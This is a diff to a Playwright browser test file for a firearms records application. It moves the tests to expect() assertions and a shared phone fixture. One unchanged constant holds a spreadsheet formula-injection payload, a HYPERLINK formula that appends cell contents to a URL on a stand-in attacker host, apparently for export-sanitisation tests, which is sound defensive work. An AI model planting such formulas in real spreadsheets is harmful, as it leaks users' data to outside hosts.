@@ -9,13 +9,14 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from playwright.sync_api import expect
 
 from armsbridge.db.engine import engine_from_settings
 from armsbridge.db.session import make_sessionmaker, session_scope
 from armsbridge.records import service as records
 from principals import as_actor
 
-from .conftest import PASSWORD, shot, sign_in
+from .conftest import assert_fits_phone, shot, sign_in
 
 pytestmark = pytest.mark.browser
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
@@ -89,38 +90,25 @@ def test_choose_rows_change_them_and_save_the_search(page, rifles) -> None:
     page.wait_for_url(re.compile(r"kind=rifle"))
     assert page.locator("#page-notice").inner_text() == "3 records changed."
     page.reload()
-    assert page.locator("#page-notice").count() == 0  # said once
+    expect(page.locator("#page-notice")).to_have_count(0)  # said once
     page.get_by_placeholder("Name of this search").fill("Rifles")
     page.get_by_role("button", name="Save this search").click()
     assert page.locator("#page-notice").inner_text() == "Search saved."
     page.goto(f"{node['url']}/records/firearms")
     page.locator("#saved-searches a", has_text="Rifles").click()
     page.wait_for_url(re.compile(r"kind=rifle"))
-    assert page.locator("#record-list tbody tr").count() == shown
+    expect(page.locator("#record-list tbody tr")).to_have_count(shown)
 
 
-def test_a_list_on_a_phone_has_no_page_scroll(browser, rifles) -> None:
+def test_a_list_on_a_phone_has_no_page_scroll(phone, rifles) -> None:
     node = rifles
-    context = browser.new_context(
-        viewport={"width": 390, "height": 844}, locale="en-GB", has_touch=True, is_mobile=True
-    )
-    context.set_default_timeout(15_000)
-    phone = context.new_page()
-    try:
-        phone.goto(f"{node['url']}/login")
-        phone.get_by_label("User name").fill("mk-analyst")
-        phone.get_by_label("Password").fill(PASSWORD)
-        phone.get_by_role("button", name="Sign in").click()
-        phone.wait_for_url(f"{node['url']}/")
-        cols = "make,model,calibre,category,serial_raw,kind,status,markings,updated_at"
-        phone.goto(f"{node['url']}/records/firearms?cols={cols}")
-        width = phone.evaluate("document.documentElement.scrollWidth")
-        assert width <= 390, f"the page is {width} px wide at 390 px"
-        # the filters fold away on a phone; the summary opens them
-        assert not phone.locator("#list-filters").is_visible()
-        shot(phone, "list-phone")
-        phone.locator(".list-filters summary").click()
-        assert phone.locator("#list-filters").is_visible()
-        assert phone.evaluate("document.documentElement.scrollWidth") <= 390
-    finally:
-        context.close()
+    sign_in(phone, node, "mk-analyst")
+    cols = "make,model,calibre,category,serial_raw,kind,status,markings,updated_at"
+    phone.goto(f"{node['url']}/records/firearms?cols={cols}")
+    assert_fits_phone(phone)
+    # the filters fold away on a phone; the summary opens them
+    expect(phone.locator("#list-filters")).not_to_be_visible()
+    shot(phone, "list-phone")
+    phone.locator(".list-filters summary").click()
+    expect(phone.locator("#list-filters")).to_be_visible()
+    assert_fits_phone(phone)
